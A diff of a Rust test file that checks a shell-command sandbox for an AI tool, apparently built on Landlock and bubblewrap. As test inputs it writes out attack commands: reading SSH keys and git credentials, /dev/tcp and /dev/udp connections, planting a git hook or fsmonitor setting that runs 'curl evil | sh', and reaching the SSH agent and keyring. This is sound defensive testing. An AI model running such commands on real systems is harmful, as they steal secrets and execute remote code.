@@ -1,14 +1,17 @@
-//! The sandbox of shell commands (F-46, issue 15) for real, on this machine's kernel (Landlock):
-//! the supervisor applies it before the shell starts. Every attack an approved command could
-//! make — writing outside the workspace, reading a secret folder, writing through a symlink that
-//! leads out, a child process doing it instead, a TCP connection with the network off — fails;
-//! the same work inside the workspace and the private temp folder succeeds.
+//! The sandbox of shell commands (F-46, issues 15 and 33) for real, on this machine's kernel:
+//! namespaces made by bubblewrap and Landlock inside them, set up by the supervisor before the
+//! shell starts. Every attack an approved command could make fails in the sandbox, and — so that
+//! each test tests something — succeeds with the sandbox off: writing outside the workspace,
+//! reading a secret folder (also through a symlink), a TCP connection or a UDP datagram with the
+//! network off, the environment's secrets and addresses, signals to processes outside, killing
+//! the supervisor to leave a process behind, the session bus, the display, the SSH agent, git's
+//! hooks. Real work in the workspace still works: git commits and a Python venv.
 #![cfg(target_os = "linux")]
 
 use super::service::{collector, with_mock};
 use serde_json::json;
-use std::io::Write;
-use std::path::Path;
+use std::io::{BufRead, Write};
+use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::sync::Arc;
 use std::time::Duration;
@@ -19,122 +22,623 @@ use tollgate_engine::protocol::{
 use tollgate_engine::secrets::Keychain;
 use tollgate_engine::service::Tollgate;
 use tollgate_engine::store::NewChat;
-use tollgate_engine::tools::sandbox::{SandboxLevel, SandboxSpec, SANDBOX_ENV};
+use tollgate_engine::tools::sandbox::{
+    explain_denials, hidden_folders, protected_in_workspace, secret_paths, SandboxLevel,
+    SandboxSpec, SANDBOX_ENV,
+};
 use tollgate_engine::tools::supervisor::SUPERVISOR_ARG;
 use tollgate_engine::{ChatId, Decision, ExecutionDecision};
 use tollgate_mock_llm::openai;
 
-/// Runs `command` under the supervisor with `spec`; its exit code and stderr.
-fn run(spec: &SandboxSpec, command: &str) -> (i32, String) {
-    let mut child = Command::new(env!("CARGO_BIN_EXE_tollgate-supervise"))
-        .args([SUPERVISOR_ARG, command])
-        .env(SANDBOX_ENV, serde_json::to_string(spec).unwrap())
+/// A folder for a test's files that a sandboxed command sees where it is: under the target
+/// folder, since `/tmp` is a private one inside the sandbox.
+pub(super) fn test_root() -> tempfile::TempDir {
+    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
+}
+
+/// A spec confining commands to `ws`, with `tmp` as the private temp folder.
+fn spec(ws: &Path, tmp: &Path, hidden: Vec<PathBuf>, namespaces: bool) -> SandboxSpec {
+    SandboxSpec {
+        level: SandboxLevel::WorkspaceOnly,
+        network: false,
+        workspace: ws.to_path_buf(),
+        temp: tmp.to_path_buf(),
+        hidden,
+        writable: Vec::new(),
+        protected: protected_in_workspace(ws),
+        keep_env: Vec::new(),
+        namespaces,
+    }
+}
+
+/// What a command did.
+#[derive(Debug)]
+struct Ran {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+impl Ran {
+    /// The sandbox's explanations of this run's failures, as the model would read them.
+    fn explained(&self, spec: &SandboxSpec) -> Vec<String> {
+        explain_denials(&format!("{}\n{}", self.stderr, self.stdout), spec)
+    }
+}
+
+/// Runs `command` in `cwd` under the supervisor, sandboxed by `spec` (or not, with `None`), with
+/// `env` added to the supervisor's environment (what Tollgate was started with).
+fn run_in(spec: Option<&SandboxSpec>, cwd: &Path, command: &str, env: &[(&str, &str)]) -> Ran {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tollgate-supervise"));
+    cmd.args([SUPERVISOR_ARG, command])
+        .current_dir(cwd)
+        .envs(env.iter().copied())
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
+        .stderr(Stdio::piped());
+    if let Some(spec) = spec {
+        cmd.env(SANDBOX_ENV, serde_json::to_string(spec).unwrap());
+    }
+    let mut child = cmd.spawn().unwrap();
     // Held open while the command runs: closing the supervisor's stdin means "stop".
     let stdin = child.stdin.take().unwrap();
     let out = child.wait_with_output().unwrap();
     drop(stdin);
     let _ = std::io::stderr().flush();
-    (
-        out.status.code().unwrap_or(-1),
-        String::from_utf8_lossy(&out.stderr).into_owned(),
-    )
+    Ran {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    }
 }
 
-#[test]
-fn an_approved_command_cannot_reach_past_its_workspace() {
-    let root = tempfile::tempdir().unwrap();
-    let (ws, tmp, home) = (
-        root.path().join("ws"),
-        root.path().join("tmp"),
-        root.path().join("home"),
-    );
+fn run(spec: &SandboxSpec, command: &str) -> (i32, String) {
+    let ran = run_in(Some(spec), &spec.workspace, command, &[]);
+    (ran.code, ran.stderr)
+}
+
+/// A workspace, a private temp folder and a home with an SSH key, under one root.
+struct Home {
+    _root: tempfile::TempDir,
+    root: PathBuf,
+    ws: PathBuf,
+    tmp: PathBuf,
+    home: PathBuf,
+}
+
+fn home() -> Home {
+    let dir = test_root();
+    let root = dir.path().canonicalize().unwrap();
+    let (ws, tmp, home) = (root.join("ws"), root.join("tmp"), root.join("home"));
     for d in [&ws, &tmp, &home.join(".ssh")] {
         std::fs::create_dir_all(d).unwrap();
     }
     std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY").unwrap();
-    std::os::unix::fs::symlink(&home, ws.join("out")).unwrap();
-    let spec = SandboxSpec {
-        level: SandboxLevel::WorkspaceOnly,
-        network: false,
-        workspace: ws.clone(),
-        temp: tmp.clone(),
-        hidden: vec![home.join(".ssh")],
-        writable: Vec::new(),
-    };
-    let p = |path: &std::path::Path| path.display().to_string();
+    Home {
+        _root: dir,
+        root,
+        ws,
+        tmp,
+        home,
+    }
+}
 
-    let (code, err) = run(&spec, &format!("touch {}", p(&root.path().join("outside"))));
-    assert_ne!(code, 0);
-    assert!(err.contains("Permission denied"), "{err}");
-    assert!(!root.path().join("outside").exists());
+#[test]
+fn an_approved_command_cannot_reach_past_its_workspace() {
+    // Both layers alone would hold: namespaces with Landlock, and Landlock where there are no
+    // namespaces.
+    for namespaces in [true, false] {
+        let Home {
+            root,
+            ws,
+            tmp,
+            home,
+            ..
+        } = &home();
+        std::os::unix::fs::symlink(home, ws.join("out")).unwrap();
+        let spec = spec(ws, tmp, secret_paths(home), namespaces);
+        let p = |path: &std::path::Path| path.display().to_string();
 
-    let (code, err) = run(&spec, &format!("cat {}", p(&home.join(".ssh/id_rsa"))));
-    assert_ne!(code, 0);
-    assert!(err.contains("Permission denied"), "{err}");
+        let (code, err) = run(&spec, &format!("touch {}", p(&root.join("outside"))));
+        assert_ne!(code, 0);
+        assert!(
+            err.contains("Permission denied") || err.contains("Read-only"),
+            "{err}"
+        );
+        assert!(!root.join("outside").exists());
 
-    let (code, _) = run(&spec, &format!("echo x > {}", p(&ws.join("out/planted"))));
-    assert_ne!(code, 0, "a symlink out of the workspace leads nowhere");
-    assert!(!home.join("planted").exists());
+        let ran = run_in(
+            Some(&spec),
+            ws,
+            &format!("cat {}", p(&home.join(".ssh/id_rsa"))),
+            &[],
+        );
+        assert_ne!(ran.code, 0);
+        assert!(!ran.stdout.contains("PRIVATE KEY"));
+        assert_eq!(
+            ran.explained(&spec),
+            [format!(
+                "reading a protected folder ({}): {}",
+                p(&home.join(".ssh")),
+                p(&home.join(".ssh/id_rsa"))
+            )],
+            "{ran:?}"
+        );
 
-    let (code, _) = run(
-        &spec,
-        &format!("sh -c 'touch {}'", p(&root.path().join("child"))),
-    );
-    assert_ne!(code, 0, "a child process inherits the sandbox");
-    assert!(!root.path().join("child").exists());
+        let (code, _) = run(&spec, &format!("echo x > {}", p(&ws.join("out/planted"))));
+        assert_ne!(code, 0, "a symlink out of the workspace leads nowhere");
+        assert!(!home.join("planted").exists());
 
-    // Inside the workspace and the private temp folder, work goes on.
-    let (code, err) = run(
-        &spec,
-        &format!(
-            "echo ok > {0} && cat {0} && echo t > \"$TMPDIR/t\" && ls /usr >/dev/null",
-            p(&ws.join("inside"))
-        ),
-    );
-    assert_eq!(code, 0, "{err}");
-    assert_eq!(std::fs::read_to_string(ws.join("inside")).unwrap(), "ok\n");
-    assert!(tmp.join("t").exists());
+        let (code, _) = run(&spec, &format!("sh -c 'touch {}'", p(&root.join("child"))));
+        assert_ne!(code, 0, "a child process inherits the sandbox");
+        assert!(!root.join("child").exists());
 
-    // Read-only: not even the workspace is writable.
-    let read_only = SandboxSpec {
-        level: SandboxLevel::ReadOnly,
-        ..spec.clone()
-    };
-    let (code, _) = run(&read_only, &format!("touch {}", p(&ws.join("new"))));
-    assert_ne!(code, 0);
-    let (code, err) = run(&read_only, &format!("cat {}", p(&ws.join("inside"))));
-    assert_eq!(code, 0, "{err}");
+        // Inside the workspace and the private temp folder, work goes on.
+        let (code, err) = run(
+            &spec,
+            &format!(
+                "echo ok > {0} && cat {0} && echo t > \"$TMPDIR/t\" && ls /usr >/dev/null",
+                p(&ws.join("inside"))
+            ),
+        );
+        assert_eq!(code, 0, "{err}");
+        assert_eq!(std::fs::read_to_string(ws.join("inside")).unwrap(), "ok\n");
+        assert!(tmp.join("t").exists());
+
+        // Read-only: not even the workspace is writable.
+        let read_only = SandboxSpec {
+            level: SandboxLevel::ReadOnly,
+            ..spec.clone()
+        };
+        let (code, _) = run(&read_only, &format!("touch {}", p(&ws.join("new"))));
+        assert_ne!(code, 0);
+        let (code, err) = run(&read_only, &format!("cat {}", p(&ws.join("inside"))));
+        assert_eq!(code, 0, "{err}");
+    }
 }
 
 #[test]
 fn with_the_network_off_a_command_cannot_connect() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
-    let root = tempfile::tempdir().unwrap();
-    std::fs::create_dir_all(root.path().join("tmp")).unwrap();
-    let spec = SandboxSpec {
-        level: SandboxLevel::WorkspaceOnly,
-        network: false,
-        workspace: root.path().to_path_buf(),
-        temp: root.path().join("tmp"),
-        hidden: vec![],
-        writable: Vec::new(),
-    };
+    let Home { ws, tmp, .. } = &home();
     let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected'");
-    let (code, err) = run(&spec, &connect);
-    assert_ne!(code, 0);
-    assert!(err.contains("Permission denied"), "{err}");
-    let online = SandboxSpec {
-        network: true,
+    for namespaces in [true, false] {
+        let spec = spec(ws, tmp, Vec::new(), namespaces);
+        let ran = run_in(Some(&spec), ws, &connect, &[]);
+        assert_ne!(ran.code, 0);
+        assert_eq!(
+            ran.explained(&spec),
+            ["opening a network connection (the network is off in this chat)"],
+            "{ran:?}"
+        );
+        let online = SandboxSpec {
+            network: true,
+            ..spec
+        };
+        let (code, err) = run(&online, &connect);
+        assert_eq!(code, 0, "{err}");
+    }
+}
+
+/// Sends a datagram to a listener on this machine's loopback from a sandboxed command, then one
+/// from the test itself: the first to arrive is the sandbox's only if it got out.
+#[test]
+fn with_the_network_off_no_datagram_leaves() {
+    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let Home { ws, tmp, .. } = &home();
+    let send = format!("printf from-the-sandbox > /dev/udp/127.0.0.1/{port}; echo sent");
+    let first_received = || {
+        std::net::UdpSocket::bind("127.0.0.1:0")
+            .unwrap()
+            .send_to(b"sentinel", ("127.0.0.1", port))
+            .unwrap();
+        let mut buf = [0u8; 64];
+        let (n, _) = listener.recv_from(&mut buf).unwrap();
+        String::from_utf8_lossy(&buf[..n]).into_owned()
+    };
+    let spec = spec(ws, tmp, Vec::new(), true);
+    let ran = run_in(Some(&spec), ws, &format!("bash -c '{send}'"), &[]);
+    assert!(ran.stdout.contains("sent"), "{ran:?}");
+    assert_eq!(first_received(), "sentinel", "nothing left the sandbox");
+    // Without the sandbox the same datagram arrives first (and then the sentinel).
+    let ran = run_in(None, ws, &format!("bash -c '{send}'"), &[]);
+    assert!(ran.stdout.contains("sent"), "{ran:?}");
+    assert_eq!(first_received(), "from-the-sandbox");
+    assert_eq!(first_received(), "sentinel");
+}
+
+#[test]
+fn the_environment_holds_no_secret_and_no_address_of_a_service() {
+    let Home { ws, tmp, .. } = &home();
+    let planted = [
+        ("GITHUB_TOKEN", "ghp_planted"),
+        ("AWS_SECRET_ACCESS_KEY", "aws-planted"),
+        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"),
+        ("DISPLAY", ":7"),
+        ("SSH_AUTH_SOCK", "/tmp/ssh-planted/agent.1"),
+    ];
+    let spec = spec(ws, tmp, Vec::new(), true);
+    let ran = run_in(Some(&spec), ws, "env", &planted);
+    assert_eq!(ran.code, 0, "{ran:?}");
+    for (name, value) in planted {
+        assert!(!ran.stdout.contains(name), "{name} leaked: {}", ran.stdout);
+        assert!(!ran.stdout.contains(value));
+    }
+    assert!(ran.stdout.contains("PATH="), "{}", ran.stdout);
+    assert!(
+        ran.stdout.lines().any(|l| l == "TMPDIR=/tmp"),
+        "{}",
+        ran.stdout
+    );
+    assert!(!ran.stdout.contains(SANDBOX_ENV));
+    let off = run_in(None, ws, "env", &planted);
+    assert!(off.stdout.contains("GITHUB_TOKEN=ghp_planted"));
+}
+
+/// Whether the process `pid` is alive (not gone, not a zombie).
+fn alive(pid: u32) -> bool {
+    std::fs::read_to_string(format!("/proc/{pid}/stat"))
+        .map(|stat| {
+            let state = stat
+                .rsplit_once(')')
+                .map(|(_, r)| r.trim_start().chars().next());
+            !matches!(state, Some(Some('Z' | 'X')))
+        })
+        .unwrap_or(false)
+}
+
+#[test]
+fn signals_reach_no_process_outside() {
+    let Home { ws, tmp, .. } = &home();
+    for namespaces in [true, false] {
+        let mut outside = Command::new("sleep").arg("600").spawn().unwrap();
+        let pid = outside.id();
+        let spec = spec(ws, tmp, Vec::new(), namespaces);
+        let ran = run_in(Some(&spec), ws, &format!("kill -TERM {pid}"), &[]);
+        assert_ne!(ran.code, 0, "{ran:?}");
+        assert!(alive(pid), "the process outside was signalled");
+        assert_eq!(
+            ran.explained(&spec),
+            ["signalling a process outside the sandbox (a command sees and signals only its own)"],
+            "{ran:?}"
+        );
+        let off = run_in(None, ws, &format!("kill -TERM {pid}"), &[]);
+        assert_eq!(off.code, 0, "{off:?}");
+        let status = outside.wait().unwrap();
+        assert!(!status.success(), "killed by the unsandboxed command");
+    }
+}
+
+/// The processes whose command line holds `marker`.
+fn processes_with(marker: &str) -> Vec<u32> {
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
+        .filter(|pid| {
+            std::fs::read(format!("/proc/{pid}/cmdline"))
+                .map(|c| String::from_utf8_lossy(&c).contains(marker))
+                .unwrap_or(false)
+                && alive(*pid)
+        })
+        .collect()
+}
+
+#[test]
+fn killing_its_supervisor_leaves_nothing_behind() {
+    let Home { ws, tmp, .. } = &home();
+    for namespaces in [true, false] {
+        // A unique duration marks the process left behind.
+        let marker = format!("4242.{}{}", std::process::id(), u8::from(namespaces));
+        let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID; echo tried=$?");
+        let spec = spec(ws, tmp, Vec::new(), namespaces);
+        let ran = run_in(Some(&spec), ws, &command, &[]);
+        assert!(ran.stdout.contains("tried="), "{ran:?}");
+        assert!(
+            !ran.stdout.contains("tried=0"),
+            "the supervisor could be killed: {ran:?}"
+        );
+        assert_eq!(
+            processes_with(&marker),
+            Vec::<u32>::new(),
+            "a leftover survived"
+        );
+    }
+    // Without the sandbox the supervisor dies and the leftover lives on (then we end it).
+    let marker = format!("4343.{}", std::process::id());
+    let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID");
+    let _ = run_in(None, ws, &command, &[]);
+    let left = processes_with(&marker);
+    assert_eq!(
+        left.len(),
+        1,
+        "the unsandboxed leftover outlived its supervisor"
+    );
+    for pid in left {
+        let _ = Command::new("kill")
+            .args(["-KILL", &pid.to_string()])
+            .status();
+    }
+}
+
+#[test]
+fn a_secret_folder_behind_a_symlink_stays_hidden() {
+    let Home {
+        root,
+        ws,
+        tmp,
+        home,
+        ..
+    } = &home();
+    // The key really lives in a dotfiles folder; ~/.ssh is a symlink to it (GNU stow).
+    let dotfiles = root.join("dotfiles/ssh");
+    std::fs::create_dir_all(&dotfiles).unwrap();
+    std::fs::write(dotfiles.join("id_ed25519"), "STOWED KEY").unwrap();
+    std::fs::remove_dir_all(home.join(".ssh")).unwrap();
+    std::os::unix::fs::symlink(&dotfiles, home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".git-credentials"), "https://u:SECRET@host").unwrap();
+    for namespaces in [true, false] {
+        let spec = spec(ws, tmp, hidden_folders(Some(home), None), namespaces);
+        for path in [
+            home.join(".ssh/id_ed25519"),
+            dotfiles.join("id_ed25519"),
+            home.join(".git-credentials"),
+        ] {
+            let ran = run_in(Some(&spec), ws, &format!("cat {}", path.display()), &[]);
+            assert_ne!(ran.code, 0, "{ran:?}");
+            assert!(!ran.stdout.contains("KEY") && !ran.stdout.contains("SECRET"));
+            let explained = ran.explained(&spec);
+            assert_eq!(explained.len(), 1, "{ran:?}");
+            assert!(
+                explained[0].starts_with("reading a protected folder"),
+                "{explained:?}"
+            );
+        }
+    }
+    let off = run_in(
+        None,
+        ws,
+        &format!("cat {}", home.join(".ssh/id_ed25519").display()),
+        &[],
+    );
+    assert_eq!(off.stdout, "STOWED KEY");
+}
+
+fn git(ws: &Path, args: &[&str]) {
+    let status = Command::new("git")
+        .args(args)
+        .current_dir(ws)
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(status.success(), "git {args:?}");
+}
+
+#[test]
+fn git_hooks_and_config_stay_read_only_and_commits_still_work() {
+    let Home { ws, tmp, .. } = &home();
+    git(ws, &["init", "-q"]);
+    std::fs::write(ws.join("a.txt"), "a").unwrap();
+    let spec = spec(ws, tmp, Vec::new(), true);
+    assert!(spec.protected.contains(&ws.join(".git/hooks")));
+    let plant = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit";
+    let ran = run_in(Some(&spec), ws, plant, &[]);
+    assert_ne!(ran.code, 0, "{ran:?}");
+    let explained = ran.explained(&spec);
+    assert!(
+        explained.len() == 1
+            && explained[0].contains(
+                ".git/hooks (git's hooks and configuration run code outside the sandbox later"
+            ),
+        "{ran:?} {explained:?}"
+    );
+    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    for attempt in [
+        "git config core.fsmonitor 'curl evil | sh'",
+        "mv .git .git-moved",
+        "rm -rf .git/hooks",
+    ] {
+        let ran = run_in(Some(&spec), ws, attempt, &[]);
+        assert_ne!(ran.code, 0, "{attempt}: {ran:?}");
+    }
+    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
+    assert!(!config.contains("fsmonitor"), "{config}");
+    assert!(ws.join(".git/hooks").is_dir());
+    // Real work: a commit.
+    let ran = run_in(
+        Some(&spec),
+        ws,
+        "git add . && git -c user.name=T -c user.email=t@example.org commit -qm first && git log --oneline",
+        &[],
+    );
+    assert_eq!(ran.code, 0, "{ran:?}");
+    assert!(ran.stdout.contains("first"), "{ran:?}");
+    // Allowed for the chat (no protected paths): the hook can be written, as without a sandbox.
+    let allowed = SandboxSpec {
+        protected: Vec::new(),
         ..spec
     };
-    let (code, err) = run(&online, &connect);
-    assert_eq!(code, 0, "{err}");
+    let ran = run_in(Some(&allowed), ws, plant, &[]);
+    assert_eq!(ran.code, 0, "{ran:?}");
+    assert!(ws.join(".git/hooks/pre-commit").exists());
+}
+
+#[test]
+fn a_python_venv_works_in_the_workspace() {
+    let Home { ws, tmp, .. } = &home();
+    let spec = spec(
+        ws,
+        tmp,
+        secret_paths(Path::new(&std::env::var("HOME").unwrap())),
+        true,
+    );
+    let ran = run_in(
+        Some(&spec),
+        ws,
+        "/usr/bin/python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'",
+        &[],
+    );
+    assert_eq!(ran.code, 0, "{ran:?}");
+    assert!(ran.stdout.trim().ends_with(".venv"), "{ran:?}");
+}
+
+/// Starts an Xvfb of its own (the display number it picked, read from it; no waiting).
+struct Display {
+    child: std::process::Child,
+    number: String,
+}
+
+impl Display {
+    fn start() -> Self {
+        let mut child = Command::new("Xvfb")
+            .args([
+                "-displayfd",
+                "1",
+                "-nolisten",
+                "tcp",
+                "-screen",
+                "0",
+                "320x200x24",
+            ])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        Self {
+            child,
+            number: line.trim().to_string(),
+        }
+    }
+}
+
+impl Drop for Display {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+#[test]
+fn the_display_is_out_of_reach_with_the_network_off_or_on() {
+    let display = Display::start();
+    let Home { ws, tmp, .. } = &home();
+    let command = format!("DISPLAY=:{} xdotool getdisplaygeometry", display.number);
+    let off = run_in(None, ws, &command, &[]);
+    assert_eq!(off.stdout.trim(), "320 200", "{off:?}");
+    for network in [false, true] {
+        let spec = SandboxSpec {
+            network,
+            ..spec(ws, tmp, Vec::new(), true)
+        };
+        let ran = run_in(Some(&spec), ws, &command, &[]);
+        assert_ne!(ran.code, 0, "network {network}: {ran:?}");
+        let explained = ran.explained(&spec);
+        assert!(
+            explained.iter().any(|e| e.contains("the display")),
+            "{ran:?} {explained:?}"
+        );
+    }
+}
+
+#[test]
+fn the_ssh_agent_is_out_of_reach() {
+    // A real agent, where agents put their socket (/tmp/ssh-…/agent.…).
+    let out = Command::new("ssh-agent").arg("-s").output().unwrap();
+    let said = String::from_utf8_lossy(&out.stdout);
+    let value = |name: &str| {
+        said.split(';')
+            .find_map(|part| part.trim().strip_prefix(&format!("{name}=")))
+            .unwrap()
+            .to_string()
+    };
+    let (sock, pid) = (value("SSH_AUTH_SOCK"), value("SSH_AGENT_PID"));
+    let Home { ws, tmp, .. } = &home();
+    let command = format!("SSH_AUTH_SOCK={sock} ssh-add -l");
+    let off = run_in(None, ws, &command, &[]);
+    let spec = spec(ws, tmp, Vec::new(), true);
+    let ran = run_in(Some(&spec), ws, &command, &[]);
+    let _ = Command::new("kill").arg(&pid).status();
+    assert!(off.stdout.contains("no identities"), "{off:?}");
+    assert_ne!(ran.code, 0, "{ran:?}");
+    assert!(!ran.stdout.contains("no identities"), "{ran:?}");
+    assert!(
+        ran.explained(&spec)
+            .iter()
+            .any(|e| e.contains("the SSH agent")),
+        "{ran:?}"
+    );
+}
+
+/// The session bus of this test run (`.ci/test.sh` runs the tests in a private D-Bus session
+/// with gnome-keyring): a secret stored in the keyring is printed by `secret-tool` without the
+/// sandbox, and neither it nor a plain D-Bus call gets through with it.
+#[test]
+#[cfg_attr(
+    not(feature = "system-tests"),
+    ignore = "needs a session bus with a Secret Service: run .ci/test.sh"
+)]
+fn the_session_bus_and_the_keyring_are_out_of_reach() {
+    let bus = std::env::var("DBUS_SESSION_BUS_ADDRESS").unwrap();
+    let service = format!("app.tollgate.test.sandbox.{}", std::process::id());
+    let mut store = Command::new("secret-tool")
+        .args([
+            "store",
+            "--label",
+            "sandbox test",
+            "service",
+            &service,
+            "key",
+            "k",
+        ])
+        .stdin(Stdio::piped())
+        .spawn()
+        .unwrap();
+    store
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(b"sk-planted-provider-key")
+        .unwrap();
+    assert!(store.wait().unwrap().success());
+    let Home { ws, tmp, .. } = &home();
+    // The command names the bus itself: the sandbox's environment has no address to give it.
+    let search = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' secret-tool search --all service {service} 2>&1; secret-tool search --all service {service}");
+    let call = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames");
+    let off = run_in(None, ws, &search, &[]);
+    assert!(off.stdout.contains("sk-planted-provider-key"), "{off:?}");
+    let off = run_in(None, ws, &call, &[]);
+    assert_eq!(off.code, 0, "{off:?}");
+    for network in [false, true] {
+        let spec = SandboxSpec {
+            network,
+            ..spec(ws, tmp, Vec::new(), true)
+        };
+        for command in [&search, &call] {
+            let ran = run_in(
+                Some(&spec),
+                ws,
+                command,
+                &[("DBUS_SESSION_BUS_ADDRESS", bus.as_str())],
+            );
+            assert_ne!(ran.code, 0, "{command}: {ran:?}");
+            assert!(!ran.stdout.contains("sk-planted"), "{ran:?}");
+            assert!(
+                ran.explained(&spec)
+                    .iter()
+                    .any(|e| e.contains("the session bus (D-Bus)")),
+                "{command}: {ran:?}"
+            );
+        }
+    }
+    let _ = Command::new("secret-tool")
+        .args(["clear", "service", &service])
+        .status();
 }
 
 /// Sends `message`, allows every call the user is asked about, and returns the sandbox each
@@ -159,7 +663,7 @@ async fn turn_allowing_all(
             ChatEvent::Tool { event } => {
                 if let ToolEvent::ApprovalRequested { approval } = *event {
                     if let ApprovalRequest::Execution { sandbox, .. } = &approval.request {
-                        cards.push(sandbox.clone());
+                        cards.push(sandbox.as_deref().cloned());
                     }
                     app.decide(
                         chat,
@@ -215,7 +719,7 @@ fn script(mock: &tollgate_mock_llm::MockLlm, lines: &[String]) {
 #[tokio::test]
 async fn approved_attacks_fail_in_the_sandbox_and_the_model_is_told_why() {
     tollgate_engine::tools::supervisor::configure(env!("CARGO_BIN_EXE_tollgate-supervise").into());
-    let dir = tempfile::tempdir().unwrap();
+    let dir = test_root();
     let root = dir.path().canonicalize().unwrap();
     let (data, home, ws) = (root.join("data"), root.join("home"), root.join("ws"));
     for d in [&data, &home.join(".ssh"), &ws] {
@@ -294,7 +798,9 @@ async fn approved_attacks_fail_in_the_sandbox_and_the_model_is_told_why() {
     for (result, line) in results.iter().zip(&expect) {
         assert!(result.contains(line.as_str()), "{line}\n---\n{result}");
         assert!(
-            result.contains("Permission denied"),
+            ["Permission denied", "Read-only file system", "No such file"]
+                .iter()
+                .any(|e| result.contains(e)),
             "the command's own error stays: {result}"
         );
     }
@@ -389,6 +895,7 @@ async fn approved_attacks_fail_in_the_sandbox_and_the_model_is_told_why() {
     let off = ChatSandbox {
         level: SandboxLevel::Off,
         network: true,
+        git_writable: false,
     };
     let refused = app.set_chat_sandbox(chat, off, false).await.unwrap_err();
     assert!(refused.to_string().contains("confirmation"), "{refused}");
